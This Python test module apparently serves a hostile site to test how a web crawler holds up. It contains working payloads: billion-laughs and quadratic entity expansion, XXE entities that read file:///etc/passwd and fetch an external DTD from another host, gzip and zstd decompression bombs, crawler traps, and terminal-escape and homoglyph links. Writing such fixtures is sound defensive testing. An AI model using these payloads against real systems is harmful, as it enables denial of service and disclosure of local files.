"""A site that does a crawler all the harm that pages, addresses, sitemaps and feeds can do.

Pages come as values that `FaultServer` serves; *traps* are paths without an end, by how they begin.
Sizes are parameters: what takes a second at ten megabytes must not take a minute.
"""

from __future__ import annotations

import gzip
import zlib
from random import Random
from typing import TYPE_CHECKING

import zstandard

from tests.servers import answers
from tests.servers.faults import FaultServer

if TYPE_CHECKING:
    from collections.abc import Callable, Mapping

    from tests.servers.faults import Behaviour, Wire

XML = {"content_type": "application/xml"}
LAUGHS = b"".join(
    b'<!ENTITY a%d "%s">' % (depth, b"&a%d;" % (depth - 1) * 10 if depth else b"ha")
    for depth in range(12)
)
STEERING = "\x1b[31m\x9b2J\u202e\u2066"  # colours, an empty screen, letters from right to left


class HostileServer(FaultServer):
    """A server some of whose paths have no end.

    Args:
        pages: What to do at a path.
        traps: What to do at all paths that begin so, where there is no page.
    """

    def __init__(self, pages: Mapping[str, Behaviour], traps: Mapping[str, Behaviour]) -> None:
        super().__init__(dict(pages))
        self.traps = dict(traps)

    def behaviour(self, path: str) -> Behaviour:
        if path.partition("?")[0] not in self.pages:
            for start, behave in self.traps.items():
                if path.startswith(start):
                    return behave
        return super().behaviour(path)


# Bodies that cost more than they weigh.


def nested(size: int) -> bytes:
    """Tags within tags, and no end."""
    return b"<div>" * (size // 5)


def unclosed(size: int) -> bytes:
    """Formatting that every later paragraph takes over."""
    return b"<b><i><p>a" * (size // 10)


def tables(size: int) -> bytes:
    """Tables within tables, whose text belongs before the outermost."""
    return b"<table><tr><td>" * (size // 30) + b"<table>a" * (size // 16)


def long_attribute(size: int) -> bytes:
    """One attribute that is the page, and a link behind it."""
    return b'<main title="' + b"a" * size + b'"><a href=/honest/1>'


def many_attributes(count: int) -> bytes:
    """One tag of so many attributes, each of another name."""
    return b"<a href=/honest/2 %s>" % b" ".join(b"a%x=" % number for number in range(count))


def references(size: int) -> bytes:
    """Ampersands of ampersands, in text and in a link."""
    run = b"&amp;" + b"amp;" * 1000
    return b"<main>" + run * (size // len(run)) + b'<a href="' + run * 20 + b'">'


def many_links(count: int) -> bytes:
    """So many links, to where robots.txt lets nobody go."""
    return b"".join(b"<a href=/p/%x>" % number for number in range(count))


def plain_text(size: int) -> bytes:
    """A tag after which all is text, links too."""
    return b"<main>a</main><plaintext>" + b"<a href=/private/plaintext>" * (size // 27)


def broken_letters(size: int) -> bytes:
    """NULs, bytes that are no UTF-8, and halves of letters."""
    return b"<main>\0\xff\xfe\xed\xa0\x80\xf4\x90\x80\x80</main>" * (size // 23)


def accents(count: int) -> bytes:
    """A letter with so many pairs of marks above and below it, in the order that must be mended."""
    return b"<main>a" + "\u0301\u0316".encode() * count


def shuffled(size: int, seed: int) -> bytes:
    """Paragraphs of a word each, in another order for each seed."""
    words = [b"<p>w%d" % number for number in range(size // 9)]
    Random(seed).shuffle(words)  # noqa: S311 - an order, no secret
    return b"<main>" + b"".join(words)


def forbidden_in_utf7() -> bytes:
    """A link that is one only to who believes the page that it is in UTF-7."""
    return b"<meta charset=utf-7><main>+ADw-a href=/private/utf7+AD4-</main>"


def elsewhere(other: str) -> bytes:
    """Links that a base moves to another host, and some that no page is at."""
    unfit = (
        *("javascript:alert(1)", "data:text/html,<a href=/private/data>", "file:///etc/passwd"),
        *("ftp://127.0.0.1/", "mailto:a@b.c", "http://[", "http://user:word@127.0.0.1/", "//", ""),
        *("http://127.0.0.1:99999/", "http:///", "/" + "a" * 1_000_000, "\\\\127.0.0.1\\a"),
    )
    links = "".join(f"<a href='{each}'>" for each in unfit)
    return f"<base href='{other}'><main>a{links}<a href=moved><a href=/moved/2></main>".encode()


def steering_links() -> bytes:
    """Addresses that would steer a terminal, or look like others, if they were shown as written."""
    forms = (
        "/shown/%s",
        "/shown/?q=%s",
        "/shown/[bold]%s[/]",
        "//\N{CYRILLIC SMALL LETTER A}.org/%s",
    )
    letters = (
        STEERING,
        "\u202e\u2066gpj",
        "\N{CYRILLIC SMALL LETTER A}pple",
        "%1b[31m%9b",
        "\x00\x07",
    )
    links = "".join(f'<a href="{form % each}">' for form in forms for each in letters)
    return f"<title>{STEERING}</title><main>{STEERING}{links}</main>".encode()


# Traps: paths without an end.


def trap(body_of: Callable[[str], str]) -> Behaviour:
    """A page at every path, made of the path."""

    async def behave(wire: Wire) -> None:
        await wire.answer(200, answers.HTML, body_of(wire.request.path).encode())

    return behave


def _next_number(path: str) -> str:
    """The page after this one, for ever."""
    start, number = path.rsplit("=", 1)
    return f"<main>{path}</main><a href='{start}={int(number) + 1}'>next</a>"


def _next_months(path: str) -> str:
    """A calendar: the month before and the month after."""
    months = int(path.split("/")[2]) * 12 + int(path.split("/")[3])
    near = [f"/calendar/{each // 12}/{each % 12}" for each in (months - 1, months + 1)]
    return f"<main>{path}</main>" + "".join(f"<a href='{each}'>" for each in near)


def _sessions(path: str) -> str:
    """Three links that are new on every page."""
    parent = zlib.crc32(path.encode())
    links = [f"/session?id={parent:08x}{number}" for number in range(3)]
    return f"<main>{path}</main>" + "".join(f"<a href='{each}'>" for each in links)


TRAPS: Mapping[str, Behaviour] = {
    "/page?": trap(_next_number),
    "/calendar/": trap(_next_months),
    "/session?": trap(_sessions),
    "/grow/": trap(lambda path: f"<main>{path}</main><a href='a/'>deeper</a>"),
    "/shown/": trap(lambda path: f"<main>{path}</main>"),
    "/honest/": trap(lambda path: f"<main>{path}</main>"),
}


def robots(names: list[str], *, wild: int, size: int) -> bytes:
    """A robots.txt that is honest in its first lines and its sitemaps, and else does harm."""
    bombs = b"".join(b"Disallow: /%s%d$\n" % (b"*a" * 40, number) for number in range(wild))
    agents = b"".join(b"User-agent: bot%d\nDisallow: /\n" % number for number in range(5000))
    rules = b"\xef\xbb\xbfUser-agent: *\nDisallow: /private\nDisallow: /p/\nCrawl-delay: nan\n"
    named = "".join(f"Sitemap: {each}\n" for each in names).encode()
    body = rules + bombs + b"\0\xff\x1b[31m: \0\n" + named + agents
    return body.ljust(size, b"x")


# Sitemaps and feeds.


def sitemaps(origin: str, other: str, *, foreign: int) -> dict[str, bytes]:
    """Sitemaps by path; some name honest pages too."""
    page = f"<url><loc>{origin}/honest/%s</loc></url>".encode()
    index = b"<sitemapindex>%s</sitemapindex>"
    further = f"<sitemap><loc>{origin}/index-%d.xml</loc></sitemap>"
    quadratic = b'<!DOCTYPE urlset [<!ENTITY a "' + b"x" * 100_000 + b'">]><urlset>'
    strangers = "".join(
        f"<url><loc>http://s{number}.example/</loc></url>" for number in range(foreign)
    )
    entities = (
        f'<!DOCTYPE urlset [<!ENTITY file SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM '
        f'"{other}/p.dtd">%p;<!ENTITY net SYSTEM "{other}/net">]><urlset><url>'
        f"<loc>{origin}/honest/entity&file;&net;</loc></url></urlset>"
    )
    return {
        "/laughs.xml": b"<!DOCTYPE urlset [%s]><urlset>%s<url><loc>&a11;</loc></url></urlset>"
        % (LAUGHS, page % b"laughs"),
        "/quadratic.xml": quadratic + b"<url><loc x='&a;'>&a;</loc></url>" * 5000 + b"</urlset>",
        "/entities.xml": entities.encode(),
        "/index-0.xml": index % (further % 0 + further % 1).encode(),
        "/index-1.xml": index % (further % 0 + further % 1).encode(),
        "/strangers.xml.gz": gzip.compress(f"<urlset>{strangers}</urlset>".encode(), 1),
        "/bomb.xml.gz": gzip.compress(b"<urlset>" + page % b"bomb" + b" " * 200_000_000, 1),
        "/steering.xml": f"<urlset xmlns='{STEERING[5:]}'><url>".encode(),
        "/steering.txt": f"{origin}/shown/{STEERING}\n{origin}/honest/text\n".encode(),
        "/deep.xml": b"<urlset>" + page % b"deep" + b"<url>" * 500_000,
        "/cut.xml": b"<urlset>" + page % b"cut" + b"<url><loc>" + origin.encode(),
    }


def feeds(origin: str, other: str) -> dict[str, bytes]:
    """Feeds by path; some name honest pages too."""
    item = f"<item><link>{origin}/honest/%s</link></item>".encode()
    entity = f'<!DOCTYPE rss [<!ENTITY net SYSTEM "{other}/feed">]>'.encode()
    stranger = f"<item><link>{other}/item</link></item>".encode()
    return {
        "/laughs.rss": b"<!DOCTYPE rss [%s]><rss>%s<item><link>&a11;</link></item></rss>"
        % (LAUGHS, item % b"feed"),
        "/entities.rss": entity + b"<rss>&net;" + item % b"&net;entities" + stranger + b"</rss>",
        "/never.rss": b"<rss>" + b"<item><link>" * 100_000,
    }


def empty_gzip_in_zstd(count: int) -> bytes:
    """A gzip without an end in a zstd: so many hundred kilobytes, of which nothing comes."""
    packer = zstandard.ZstdCompressor(level=1).compressobj()
    nothing = b"\0\0\0\xff\xff" * 20_000  # blocks of no bytes
    head = packer.compress(gzip.compress(b"")[:10])
    return head + b"".join(packer.compress(nothing) for _ in range(count)) + packer.flush()


# Answers that are wrong on the wire.


def flood(piece: bytes, before: bytes = b"") -> Behaviour:
    """The same bytes again and again, and no end."""

    async def behave(wire: Wire) -> None:
        await wire.send(before)
        while True:
            await wire.send(piece)

    return behave


def said(*lines: str, status: str = "200 OK", body: bytes = b"<main>said</main>") -> Behaviour:
    """An answer whose head holds these very lines, whatever they hold."""
    head = "\r\n".join([f"HTTP/1.1 {status}", *lines, f"Content-Length: {len(body)}", "", ""])
    return answers.raw(head.encode("latin-1") + body, keep=True)
